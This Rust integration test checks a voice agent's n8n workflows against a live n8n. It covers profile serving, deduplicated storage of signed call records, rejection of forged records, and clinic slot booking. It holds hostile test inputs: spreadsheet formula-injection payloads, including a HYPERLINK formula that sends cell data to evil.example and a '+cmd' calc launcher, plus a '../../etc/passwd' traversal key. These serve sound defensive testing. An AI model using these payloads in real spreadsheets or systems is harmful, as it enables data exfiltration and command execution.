//! The workflows in `n8n/` on a real n8n, the one users run: the worker's profile store reads the
//! shipped profiles from it; call records from the outbox are stored once each, through an n8n
//! outage and resends; with a secret, only records signed with it are stored; a record n8n cannot
//! store is answered with an error, never a 2xx; the rows meant for spreadsheets hold text,
//! never formulas; and the clinic profile's tools find free slots and book them, once.
//!
//! The mocks of n8n elsewhere are only as right as our reading of n8n; this is where the workflows
//! users import are checked against n8n itself. `scripts/n8n.sh` installs n8n 1.123 once into a
//! cache outside the repository (about ten minutes the first time); later runs take about a
//! minute.

mod support;

use std::collections::BTreeMap;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use hmac::{Hmac, Mac};
use reqwest::StatusCode;
use serde_json::{Value, json};
use sha2::Sha256;
use url::Url;
use voice_agent::agent::{CallContext, Tool, ToolRequest, WebhookTool};
use voice_agent::config::Secret;
use voice_agent::pipeline::record::Caller;
use voice_agent::pipeline::{ToolEndpoints, profile_tools};
use voice_agent::profiles::{AgentProfile, ProfileError, ProfileStore};
use voice_agent::records::{Outbox, OutboxConfig};

/// n8n starts and activates the workflows in 10–20 s on 2 cores; only an n8n that cannot start
/// comes near this.
const STARTUP_LIMIT: Duration = Duration::from_secs(180);
/// A few records take well under a second; only a workflow that does not answer comes near this.
const DELIVERY_LIMIT: Duration = Duration::from_secs(60);
/// n8n finishes running executions on SIGTERM; it is killed when it takes longer than this.
const SHUTDOWN_LIMIT: Duration = Duration::from_secs(30);

const AGENT_CONFIG: &str = "webhook/agent-config";
const LEAD_CAPTURE: &str = "webhook/lead-capture";
const CLINIC_AVAILABILITY: &str = "webhook/clinic-availability";

/// The worker's N8N_WEBHOOK_SECRET, given to n8n as LEAD_CAPTURE_SECRET.
const SECRET: &str = "whsec_real_n8n_test";

#[tokio::test]
async fn the_shipped_workflows_serve_profiles_and_store_each_signed_call_record_once() {
    install_n8n().await;
    let scratch = tempfile::tempdir().expect("temp dir");
    let mut n8n = N8n::new(scratch.path());
    n8n.start().await;

    the_shipped_profiles_come_from_n8n(&n8n, scratch.path()).await;
    bad_records_are_refused_naming_the_field(&n8n).await;
    records_are_stored_once_through_an_outage_and_resends(&mut n8n, scratch.path()).await;
    unsigned_and_forged_records_are_refused(&n8n).await;
    a_record_n8n_cannot_store_is_answered_with_an_error(&n8n).await;
    spreadsheet_rows_hold_text_not_formulas(&n8n).await;
    the_clinic_profiles_tools_find_free_slots_and_book_each_once(&n8n).await;
    without_a_secret_unsigned_records_are_stored(&mut n8n).await;
}

/// The clinic profile's own tools, as a call would run them: built from profiles/clinic-hi.toml,
/// pointed at this n8n, signed with the worker's secret.
fn clinic_tools(n8n: &N8n) -> (Arc<dyn Tool>, Arc<dyn Tool>) {
    let store = ProfileStore::from_settings(&support::settings(&[]), reqwest::Client::new())
        .unwrap_or_else(|e| panic!("the shipped profiles load: {e}"));
    let clinic = store.local_profiles().find(|p| p.id == "clinic-hi").expect("the clinic profile").clone();
    let endpoints = ToolEndpoints { n8n_base_url: Some(n8n.base.clone()), secret: Some(Secret::new(SECRET)) };
    let tools = profile_tools(&clinic, &endpoints, &WebhookTool::client().expect("a client"));
    let find = |name: &str| {
        tools.iter().find(|t| t.spec().name == name).cloned().unwrap_or_else(|| panic!("clinic-hi has {name}"))
    };
    (find("check_availability"), find("book_slot"))
}

async fn use_tool(tool: &Arc<dyn Tool>, key: &str, arguments: Value) -> Value {
    let request = ToolRequest {
        name: tool.spec().name,
        id: key.to_owned(),
        arguments: arguments.to_string(),
        context: CallContext {
            call_id: "AJ_n8n_tools".into(),
            agent_id: "clinic-hi".into(),
            caller: Some(Caller { identity: "user-1".into(), name: "Asha".into() }),
            lead: BTreeMap::new(),
        },
    };
    let output = tool.call(request).await;
    serde_json::from_str(&output.result).unwrap_or_else(|e| panic!("a JSON result ({e}): {}", output.result))
}

/// The first `weekday` (0 is Sunday) after today in India, where the clinic is, as YYYY-MM-DD.
fn next(weekday: u32) -> String {
    use chrono::Datelike;
    let mut day = chrono::Utc::now().with_timezone(&chrono_tz::Asia::Kolkata).date_naive();
    loop {
        day = day.succ_opt().expect("a next day");
        if day.weekday().num_days_from_sunday() == weekday {
            return day.format("%Y-%m-%d").to_string();
        }
    }
}

fn free(answer: &Value, doctor: &str) -> Vec<String> {
    let doctors = answer["doctors"].as_array().unwrap_or_else(|| panic!("doctors in {answer}"));
    let entry = doctors.iter().find(|d| d["doctor"] == doctor).unwrap_or_else(|| panic!("{doctor} in {answer}"));
    entry["free"].as_array().expect("free slots").iter().filter_map(|t| t.as_str().map(str::to_owned)).collect()
}

async fn the_clinic_profiles_tools_find_free_slots_and_book_each_once(n8n: &N8n) {
    let (availability, book) = clinic_tools(n8n);
    let monday = next(1);
    let day = use_tool(&availability, "AJ_n8n_tools:call_1", json!({"date": monday, "doctor": "anil_sharma"})).await;
    assert_eq!((&day["open"], &day["weekday"]), (&json!(true), &json!("Monday")), "{day}");
    let slots = free(&day, "anil_sharma");
    assert_eq!(slots.len(), 28, "two sessions of 15-minute slots: {slots:?}");
    assert!(slots.contains(&"10:30".to_owned()) && !slots.contains(&"13:00".to_owned()), "{slots:?}");

    let slot = json!({"doctor": "anil_sharma", "date": monday, "time": "10:30", "patient_name": "Asha Verma",
        "phone": "98765 43210", "reason": "fever for two days"});
    let booked = use_tool(&book, "AJ_n8n_tools:call_2", slot.clone()).await;
    assert_eq!(booked["booked"], true, "{booked}");
    assert!(booked["booking_id"].as_str().is_some_and(|id| id.starts_with("BK-")), "{booked}");
    let again = use_tool(&book, "AJ_n8n_tools:call_2", slot.clone()).await;
    assert_eq!(again, booked, "a resend of the same tool call gets the same booking");
    let mut other = slot.clone();
    other["patient_name"] = json!("Ravi Kumar");
    let taken = use_tool(&book, "AJ_n8n_other:call_1", other).await;
    assert_eq!((&taken["booked"], &taken["reason"]), (&json!(false), &json!("taken")), "no double booking: {taken}");

    let both = use_tool(&availability, "AJ_n8n_tools:call_3", json!({"date": monday})).await;
    assert!(!free(&both, "anil_sharma").contains(&"10:30".to_owned()), "the booked slot is no longer offered");
    assert!(free(&both, "meena_sharma").contains(&"10:30".to_owned()), "the other doctor's slot still is");

    let sunday = use_tool(&availability, "AJ_n8n_tools:call_4", json!({"date": next(0)})).await;
    assert_eq!(sunday["open"], false, "{sunday}");
    let past = use_tool(&availability, "AJ_n8n_tools:call_5", json!({"date": "2020-01-06"})).await;
    assert_eq!(past["ok"], false, "{past}");
    assert!(
        past["detail"].as_str().is_some_and(|d| d.contains("has passed")),
        "n8n's reason reaches the model: {past}"
    );
    let off_grid = use_tool(
        &book,
        "AJ_n8n_tools:call_6",
        json!({"doctor": "meena_sharma", "date": monday,
        "time": "10:20", "patient_name": "Asha", "phone": "9876543210"}),
    )
    .await;
    assert!(off_grid["detail"].as_str().is_some_and(|d| d.contains("slot of the timetable")), "{off_grid}");

    let body = json!({"call_id": "AJ_x", "arguments": {"date": monday}}).to_string();
    let unsigned = reqwest::Client::new()
        .post(n8n.url(CLINIC_AVAILABILITY))
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .expect("n8n answers");
    assert_eq!(unsigned.status(), StatusCode::UNAUTHORIZED, "nobody without the secret can use the tools");
}

async fn the_shipped_profiles_come_from_n8n(n8n: &N8n, scratch: &Path) {
    let shipped = ProfileStore::from_settings(&support::settings(&[]), reqwest::Client::new())
        .unwrap_or_else(|e| panic!("the shipped profiles load: {e}"));
    let shipped: Vec<AgentProfile> = shipped.local_profiles().cloned().collect();

    // Local profiles hold none of the shipped ids, so each of those can only come from n8n.
    let local = scratch.join("profiles");
    std::fs::create_dir(&local).expect("profiles dir");
    let only_local = "name = \"Corner shop\"\nsystem_prompt = \"You take orders for a corner shop.\"\n";
    std::fs::write(local.join("corner-shop.toml"), only_local).expect("local profile written");
    let settings =
        support::settings(&[("N8N_BASE_URL", n8n.base.as_str()), ("PROFILES_DIR", &local.display().to_string())]);
    let store = ProfileStore::from_settings(&settings, reqwest::Client::new())
        .unwrap_or_else(|e| panic!("a profile store on n8n: {e}"));

    for expected in &shipped {
        let id = &expected.id;
        let profile = store.get(id).await.unwrap_or_else(|e| panic!("n8n should answer the profile `{id}`: {e}"));
        assert_eq!(
            *profile, *expected,
            "n8n's `{id}` differs from profiles/{id}.toml: update the \"Agent profiles\" node in n8n/agent-profiles.json"
        );
    }
    let clinic = store.get("clinic-hi").await.expect("clinic-hi from n8n");
    assert_eq!((clinic.language.as_str(), clinic.voice.as_str()), ("hi-IN", "priya"), "clinic-hi speaks Hindi");
    assert_eq!(clinic.lead_fields.len(), 5, "clinic-hi asks for its five lead fields");

    let unknown = store.get("no-such-agent").await;
    assert!(
        matches!(unknown, Err(ProfileError::UnknownAgent(ref id)) if id == "no-such-agent"),
        "n8n's answer for an unknown agent should read as \"unknown agent\", not as n8n failing; got {unknown:?}"
    );
    let fallback = store.get("corner-shop").await.expect("an agent n8n does not know falls back to its local profile");
    assert_eq!(fallback.name, "Corner shop");

    let answer = reqwest::get(n8n.url(&format!("{AGENT_CONFIG}?agent_id=no-such-agent"))).await.expect("n8n answers");
    assert_eq!(answer.status(), StatusCode::NOT_FOUND, "unknown agents get a 404");
    let body: Value = answer.json().await.expect("a JSON body");
    assert_eq!(body, json!({"error": "unknown agent", "agent_id": "no-such-agent"}));
}

async fn bad_records_are_refused_naming_the_field(n8n: &N8n) {
    let (status, body) = post_record(n8n, None, br#"{"room":"call-7f3a","agent_id":"clinic-hi"}"#).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "a record without call_id is refused: {body}");
    assert_eq!(body["field"], "call_id", "the answer names the missing field: {body}");

    let (status, body) = post_record(n8n, Some("../../etc/passwd"), br#"{"call_id":"AJ_x"}"#).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "a key that is not a plain id never names a file: {body}");
    assert_eq!(body["field"], "Idempotency-Key", "{body}");
    assert!(n8n.stored().is_empty(), "nothing refused is stored");
}

async fn records_are_stored_once_through_an_outage_and_resends(n8n: &mut N8n, scratch: &Path) {
    let spool = scratch.join("spool");
    let url = n8n.url(LEAD_CAPTURE);
    let config = OutboxConfig {
        timeout: Duration::from_secs(10),
        first_retry: Duration::from_millis(200),
        max_retry: Duration::from_secs(1),
        ..OutboxConfig::new(spool.clone(), Some(url), Some(Secret::new(SECRET)))
    };
    let outbox = Outbox::start(config).await.unwrap_or_else(|e| panic!("outbox starts: {e}"));

    let first = call_record("AJ_n8n_first", "Asha Verma", "9876543210");
    outbox.submit("AJ_n8n_first", first.clone()).await.expect("submitted");
    drained(&outbox, n8n).await;
    nothing_refused(&spool);
    assert_eq!(n8n.stored(), BTreeMap::from([("AJ_n8n_first".to_owned(), parse(&first))]), "stored as sent");

    n8n.stop().await;
    let waiting = [
        ("AJ_n8n_outage_1", call_record("AJ_n8n_outage_1", "Ravi Kumar", "9812345678")),
        ("AJ_n8n_outage_2", call_record("AJ_n8n_outage_2", "Meena Iyer", "9898989898")),
        ("AJ_n8n_outage_3", call_record("AJ_n8n_outage_3", "Farhan Ali", "9700011122")),
    ];
    for (id, body) in &waiting {
        outbox.submit(id, body.clone()).await.expect("submitted while n8n is down");
    }
    // Long enough for several failed tries with the short backoff above.
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(outbox.pending(), 3, "records wait while n8n is down");
    for (id, _) in &waiting {
        assert!(spool.join(format!("{id}.json")).is_file(), "{id} waits in the spool {}", spool.display());
    }

    n8n.start().await;
    drained(&outbox, n8n).await;
    nothing_refused(&spool);
    let mut expected = BTreeMap::from([("AJ_n8n_first".to_owned(), parse(&first))]);
    expected.extend(waiting.iter().map(|(id, body)| ((*id).to_owned(), parse(body))));
    assert_eq!(n8n.stored(), expected, "every record is stored once, as sent, after n8n is back");

    // The worker sends a record again when n8n's answer was lost; the copy must not be stored.
    let (id, body) = &waiting[0];
    let (status, answer) = post_record(n8n, Some(id), body).await;
    assert_eq!(status, StatusCode::OK, "a resend gets a 2xx, or the worker would retry it for ever: {answer}");
    assert_eq!(answer, json!({"stored": false, "duplicate": true}));
    let altered = call_record("AJ_n8n_first", "Someone Else", "9000000000");
    let (status, answer) = post_record(n8n, Some("AJ_n8n_first"), &altered).await;
    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": false, "duplicate": true})));
    assert_eq!(n8n.stored(), expected, "resends change nothing that was stored");

    outbox.close(Instant::now() + Duration::from_secs(5)).await;
}

async fn unsigned_and_forged_records_are_refused(n8n: &N8n) {
    let real = call_record("AJ_n8n_forged", "Asha Verma", "9876543210");
    // What a caller who guessed its call id would send first, to be stored in place of the real one.
    let forged = call_record("AJ_n8n_forged", "Mallory", "9000000000");
    let attempts = [
        ("no signature", None),
        ("a signature made with another secret", Some(signature("not the secret", &forged))),
        ("the real record's signature on another body", Some(signature(SECRET, &real))),
        ("an empty signature", Some(String::new())),
        ("a bare hex signature", Some(signature(SECRET, &forged).replace("sha256=", ""))),
    ];
    for (what, signed) in attempts {
        let (status, body) = post(n8n, Some("AJ_n8n_forged"), &forged, signed.as_deref()).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "a record with {what} is refused: {body}");
        assert!(body["error"].as_str().is_some_and(|e| e.contains("X-Signature-256")), "{what}: {body}");
    }
    assert!(!n8n.stored().contains_key("AJ_n8n_forged"), "nothing forged is stored");

    let (status, answer) = post_record(n8n, Some("AJ_n8n_forged"), &real).await;
    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "the signed record is stored");
    assert_eq!(n8n.stored().get("AJ_n8n_forged"), Some(&parse(&real)), "the real record, not the forgery");
}

async fn a_record_n8n_cannot_store_is_answered_with_an_error(n8n: &N8n) {
    let record = call_record("AJ_n8n_unwritable", "Ravi Kumar", "9812345678");
    let away = n8n.leads.with_extension("away");
    std::fs::rename(&n8n.leads, &away).expect("the leads dir moves away");
    let (status, answer) = post_record(n8n, Some("AJ_n8n_unwritable"), &record).await;
    std::fs::rename(&away, &n8n.leads).expect("the leads dir comes back");
    // n8n itself answers an empty 200 when a workflow fails before its answer, and the worker
    // would then forget the record; the workflow must answer the failure.
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "not stored, so not a 2xx: {answer}");
    assert!(answer["error"].as_str().is_some_and(|e| e.contains("not stored")), "{answer}");

    let (status, answer) = post_record(n8n, Some("AJ_n8n_unwritable"), &record).await;
    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "stored when the worker retries");
    assert_eq!(n8n.stored().get("AJ_n8n_unwritable"), Some(&parse(&record)));
}

async fn spreadsheet_rows_hold_text_not_formulas(n8n: &N8n) {
    let mut record = parse(&call_record("AJ_n8n_formulas", "+cmd|' /C calc'!A0", "+919876543210"));
    record["lead"] = json!({
        "patient_name": "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
        "phone": "+919876543210",
        "doctor": "@SUM(1,2)",
        "preferred_time": "-2+3",
        "reason": "  =1+1",
        "notes": "\t=cmd",
        "wide": "＝1+1",
        "budget": "50 lakh - 1 crore",
        "language": "hi",
        "email": "asha@example.com",
    });
    let body = serde_json::to_vec(&record).expect("serialisable");
    let (status, answer) = post_record(n8n, Some("AJ_n8n_formulas"), &body).await;
    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})));
    assert_eq!(n8n.stored().get("AJ_n8n_formulas"), Some(&record), "the record itself is stored as sent");

    let row = n8n.sheet_row("AJ_n8n_formulas").await;
    let expected = json!({
        "call_id": "AJ_n8n_formulas",
        "started_at": "2026-11-22T09:30:00.000Z",
        "ended_at": "2026-11-22T09:32:41.500Z",
        "duration_seconds": 161.5,
        "agent_id": "clinic-hi",
        "language": "hi-IN",
        "caller_name": "'+cmd|' /C calc'!A0",
        "end_reason": "caller_left",
        "lead_missing": "",
        "transcript": "agent: नमस्ते! शर्मा फैमिली क्लिनिक में आपका स्वागत है।\ncaller: मुझे कल सुबह डॉक्टर मीना शर्मा से मिलना है।",
        "patient_name": "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
        "phone": "'+919876543210",
        "doctor": "'@SUM(1,2)",
        "preferred_time": "'-2+3",
        "reason": "'  =1+1",
        "notes": "'\t=cmd",
        "wide": "'＝1+1",
        "budget": "50 lakh - 1 crore",
        "lead_language": "hi",
        "email": "asha@example.com",
    });
    assert_eq!(row, expected, "every text that a spreadsheet would run as a formula starts with an apostrophe");
}

async fn without_a_secret_unsigned_records_are_stored(n8n: &mut N8n) {
    n8n.stop().await;
    n8n.secret = None;
    n8n.start().await;
    let record = call_record("AJ_n8n_unsigned", "Meena Iyer", "9898989898");
    let (status, answer) = post(n8n, Some("AJ_n8n_unsigned"), &record, None).await;
    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "no secret, no check");
    assert_eq!(n8n.stored().get("AJ_n8n_unsigned"), Some(&parse(&record)));
}

/// `X-Signature-256` as the worker sends it.
fn signature(secret: &str, body: &[u8]) -> String {
    let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).expect("HMAC takes keys of any length");
    mac.update(body);
    let hex: String = mac.finalize().into_bytes().iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256={hex}")
}

/// A call record as the worker writes one (see src/pipeline/record.rs).
fn call_record(call_id: &str, name: &str, phone: &str) -> Vec<u8> {
    let record = json!({
        "record_version": 1,
        "call_id": call_id,
        "room": format!("call-{call_id}"),
        "agent_id": "clinic-hi",
        "language": "hi-IN",
        "voice": "manisha",
        "started_at": "2026-11-22T09:30:00.000Z",
        "ended_at": "2026-11-22T09:32:41.500Z",
        "duration_seconds": 161.5,
        "caller": {"identity": "web-7f3a", "name": name},
        "end_reason": "caller_left",
        "transcript": [
            {"speaker": "agent", "text": "नमस्ते! शर्मा फैमिली क्लिनिक में आपका स्वागत है।", "at": "2026-11-22T09:30:01.200Z", "interrupted": false},
            {"speaker": "caller", "text": "मुझे कल सुबह डॉक्टर मीना शर्मा से मिलना है।", "at": "2026-11-22T09:30:06.900Z", "interrupted": false},
        ],
        "lead": {"patient_name": name, "phone": phone, "doctor": "डॉ. मीना शर्मा", "preferred_time": "कल सुबह 10 बजे"},
        "lead_missing": [],
    });
    serde_json::to_vec(&record).expect("serialisable")
}

fn parse(body: &[u8]) -> Value {
    serde_json::from_slice(body).expect("valid JSON")
}

/// Posts a record as the worker does: signed when n8n has a secret.
async fn post_record(n8n: &N8n, key: Option<&str>, body: &[u8]) -> (StatusCode, Value) {
    let signed = n8n.secret.map(|secret| signature(secret, body));
    post(n8n, key, body, signed.as_deref()).await
}

async fn post(n8n: &N8n, key: Option<&str>, body: &[u8], signature: Option<&str>) -> (StatusCode, Value) {
    let mut request = reqwest::Client::new()
        .post(n8n.url(LEAD_CAPTURE))
        .header("content-type", "application/json")
        .body(body.to_vec());
    if let Some(key) = key {
        request = request.header("idempotency-key", key);
    }
    if let Some(signature) = signature {
        request = request.header("x-signature-256", signature);
    }
    let response = request.send().await.expect("n8n answers");
    let status = response.status();
    let text = response.text().await.expect("a body");
    let json =
        serde_json::from_str(&text).unwrap_or_else(|_| panic!("n8n should answer JSON, got HTTP {status}: {text:?}"));
    (status, json)
}

/// The outbox moves a record to `dead/` when n8n refuses it for good: with these workflows that
/// must never happen to a valid record.
fn nothing_refused(spool: &Path) {
    let dead = std::fs::read_dir(spool.join("dead")).map(|entries| {
        entries
            .filter_map(|entry| entry.ok().map(|e| e.path()))
            .filter(|path| path.to_string_lossy().ends_with(".answer.txt"))
            .map(|path| format!("{}: {}", path.display(), std::fs::read_to_string(&path).unwrap_or_default()))
            .collect::<Vec<_>>()
    });
    let dead = dead.unwrap_or_default();
    assert!(dead.is_empty(), "valid records were refused for good by n8n:\n{}", dead.join("\n"));
}

async fn drained(outbox: &Outbox, n8n: &N8n) {
    if tokio::time::timeout(DELIVERY_LIMIT, outbox.drained()).await.is_err() {
        panic!(
            "{} records still undelivered after {DELIVERY_LIMIT:?}; n8n's log:\n{}",
            outbox.pending(),
            n8n.log_tail()
        );
    }
}

/// Installs n8n into the cache, or finds it there.
async fn install_n8n() {
    let output = tokio::process::Command::new(support::repo_path("scripts/n8n.sh"))
        .arg("install")
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .output()
        .await
        .unwrap_or_else(|e| panic!("scripts/n8n.sh cannot run: {e}"));
    assert!(
        output.status.success(),
        "scripts/n8n.sh install failed, so n8n cannot be tested (it needs Node.js 20.19+, build tools from \
         scripts/setup.sh and the npm registry):\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// n8n run by `scripts/n8n.sh serve` in a private user folder, in its own process group so that
/// stopping it also stops its children; killed when dropped, also when a check panics.
///
/// It runs the shipped workflows with one addition, where a user would connect a Google Sheets
/// node: after the lead-capture workflow's "Sheet row", two nodes write each row to `rows/`.
struct N8n {
    base: Url,
    port: u16,
    home: PathBuf,
    leads: PathBuf,
    rows: PathBuf,
    bookings: PathBuf,
    workflows: PathBuf,
    /// LEAD_CAPTURE_SECRET, from the next start on.
    secret: Option<&'static str>,
    log: PathBuf,
    process: Option<Child>,
}

impl N8n {
    fn new(scratch: &Path) -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|listener| listener.local_addr())
            .expect("a free loopback port")
            .port();
        let leads = scratch.join("leads");
        let rows = scratch.join("rows");
        let bookings = scratch.join("bookings");
        for dir in [&leads, &rows, &bookings] {
            std::fs::create_dir(dir).expect("a scratch dir");
        }
        let workflows = scratch.join("workflows");
        write_workflows(&workflows, &rows);
        Self {
            base: format!("http://127.0.0.1:{port}/").parse().expect("valid URL"),
            port,
            home: scratch.join("n8n-home"),
            leads,
            rows,
            bookings,
            workflows,
            secret: Some(SECRET),
            log: scratch.join("n8n.log"),
            process: None,
        }
    }

    /// The row "Sheet row" made for a record, once the nodes after it have written it.
    async fn sheet_row(&self, key: &str) -> Value {
        let path = self.rows.join(format!("{key}.json"));
        let deadline = Instant::now() + DELIVERY_LIMIT;
        while !path.is_file() {
            assert!(
                Instant::now() < deadline,
                "no sheet row for {key} in {DELIVERY_LIMIT:?}; n8n's log:\n{}",
                self.log_tail()
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let text = std::fs::read(&path).expect("the row is readable");
        serde_json::from_slice(&text).unwrap_or_else(|e| panic!("{} holds JSON: {e}", path.display()))
    }

    fn url(&self, path: &str) -> Url {
        self.base.join(path).expect("valid URL")
    }

    /// Starts n8n (importing and activating the workflows into a new user folder) and returns
    /// once its webhooks answer.
    async fn start(&mut self) {
        let log = std::fs::OpenOptions::new().create(true).append(true).open(&self.log).expect("log file");
        let mut command = Command::new(support::repo_path("scripts/n8n.sh"));
        command
            .args(["serve", &self.port.to_string()])
            .env_clear()
            .envs(
                ["PATH", "HOME", "VOICE_AGENT_CACHE", "XDG_CACHE_HOME"]
                    .iter()
                    .filter_map(|name| std::env::var_os(name).map(|value| (*name, value))),
            )
            .env("N8N_USER_FOLDER", &self.home)
            .env("N8N_WORKFLOWS_DIR", &self.workflows)
            .env("LEAD_CAPTURE_DIR", &self.leads)
            .env("CLINIC_BOOKINGS_DIR", &self.bookings)
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("log file"))
            .stderr(log)
            .process_group(0);
        if let Some(secret) = self.secret {
            command.env("LEAD_CAPTURE_SECRET", secret);
        }
        self.process = Some(command.spawn().unwrap_or_else(|e| panic!("scripts/n8n.sh serve cannot run: {e}")));

        let http = reqwest::Client::new();
        let deadline = Instant::now() + STARTUP_LIMIT;
        loop {
            if let Some(status) = self.process.as_mut().and_then(|p| p.try_wait().expect("n8n's status")) {
                panic!("n8n exited ({status}) before its webhooks answered; its log:\n{}", self.log_tail());
            }
            let profile = http.get(self.url(&format!("{AGENT_CONFIG}?agent_id=default"))).send().await;
            // An empty object is not a record: once the workflow is active, it is refused with 400.
            let mut record = http.post(self.url(LEAD_CAPTURE)).header("content-type", "application/json").body("{}");
            if let Some(secret) = self.secret {
                record = record.header("x-signature-256", signature(secret, b"{}"));
            }
            let record = record.send().await;
            // A request without a day is refused with 400 once the clinic's tools are active.
            let mut tools =
                http.post(self.url(CLINIC_AVAILABILITY)).header("content-type", "application/json").body("{}");
            if let Some(secret) = self.secret {
                tools = tools.header("x-signature-256", signature(secret, b"{}"));
            }
            let tools = tools.send().await;
            let answered =
                |r: &Result<reqwest::Response, reqwest::Error>, code| r.as_ref().is_ok_and(|r| r.status() == code);
            if answered(&profile, StatusCode::OK)
                && answered(&record, StatusCode::BAD_REQUEST)
                && answered(&tools, StatusCode::BAD_REQUEST)
            {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "n8n's webhooks did not answer within {STARTUP_LIMIT:?}; its log:\n{}",
                self.log_tail()
            );
            tokio::time::sleep(Duration::from_millis(250)).await;
        }
    }

    /// Stops n8n the way a service manager does (SIGTERM) and waits until it has exited.
    async fn stop(&mut self) {
        let Some(mut process) = self.process.take() else { return };
        signal_group(&process, "TERM");
        let deadline = Instant::now() + SHUTDOWN_LIMIT;
        while process.try_wait().expect("n8n's status").is_none() {
            if Instant::now() > deadline {
                signal_group(&process, "KILL");
                process.wait().expect("n8n killed");
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// Records stored by the lead-capture workflow, by file name (the Idempotency-Key).
    fn stored(&self) -> BTreeMap<String, Value> {
        std::fs::read_dir(&self.leads)
            .expect("leads dir readable")
            .map(|entry| {
                let path = entry.expect("dir entry").path();
                let key = path.file_stem().and_then(|s| s.to_str()).expect("UTF-8 file name").to_owned();
                let text = std::fs::read(&path).expect("record readable");
                (key, serde_json::from_slice(&text).unwrap_or_else(|e| panic!("{} holds JSON: {e}", path.display())))
            })
            .collect()
    }

    fn log_tail(&self) -> String {
        let log = std::fs::read_to_string(&self.log).unwrap_or_default();
        let lines: Vec<&str> = log.lines().collect();
        lines[lines.len().saturating_sub(60)..].join("\n")
    }
}

impl Drop for N8n {
    fn drop(&mut self) {
        if let Some(mut process) = self.process.take() {
            signal_group(&process, "KILL");
            let _ = process.wait();
        }
    }
}

/// The shipped workflows into `dir`, the lead-capture one with two nodes after "Sheet row" that
/// write each row to `rows/<Idempotency-Key>.json`, as a spreadsheet node would receive it.
fn write_workflows(dir: &Path, rows: &Path) {
    std::fs::create_dir(dir).expect("workflows dir");
    for file in ["agent-profiles.json", "lead-capture.json", "clinic-tools.json"] {
        std::fs::copy(support::repo_path(&format!("n8n/{file}")), dir.join(file)).expect("workflow copied");
    }
    let path = dir.join("lead-capture.json");
    let mut workflow: Value = serde_json::from_slice(&std::fs::read(&path).expect("readable")).expect("JSON");
    let to_file = format!(
        "return $input.all().map(({{ json }}) => ({{\n  json: {{ file: {rows:?} + '/' + json.key + '.json' }},\n  binary: {{ data: {{ data: Buffer.from(JSON.stringify(json.row)).toString('base64'), mimeType: 'application/json', fileName: json.key + '.json' }} }},\n}}));",
        rows = rows.display().to_string()
    );
    let nodes = workflow["nodes"].as_array_mut().expect("nodes");
    assert!(nodes.iter().any(|n| n["name"] == "Sheet row"), "the lead-capture workflow has a \"Sheet row\" node");
    nodes.push(json!({
        "parameters": {"jsCode": to_file},
        "id": "7e57e57e-0000-4000-8000-000000000001",
        "name": "Test: row as a file",
        "type": "n8n-nodes-base.code",
        "typeVersion": 2,
        "position": [2640, -200],
    }));
    nodes.push(json!({
        "parameters": {"operation": "write", "fileName": "={{ $json.file }}", "options": {}},
        "id": "7e57e57e-0000-4000-8000-000000000002",
        "name": "Test: write the row",
        "type": "n8n-nodes-base.readWriteFile",
        "typeVersion": 1,
        "position": [2860, -200],
    }));
    let link = |node: &str| json!({"main": [[{"node": node, "type": "main", "index": 0}]]});
    workflow["connections"]["Sheet row"] = link("Test: row as a file");
    workflow["connections"]["Test: row as a file"] = link("Test: write the row");
    std::fs::write(&path, serde_json::to_vec_pretty(&workflow).expect("serialisable")).expect("written");
}

/// Signals every process of the group `scripts/n8n.sh serve` leads: n8n and its task runners.
fn signal_group(process: &Child, signal: &str) {
    let group = format!("-{}", process.id());
    let _ = Command::new("kill").args([&format!("-{signal}"), "--", &group]).stderr(Stdio::null()).status();
}
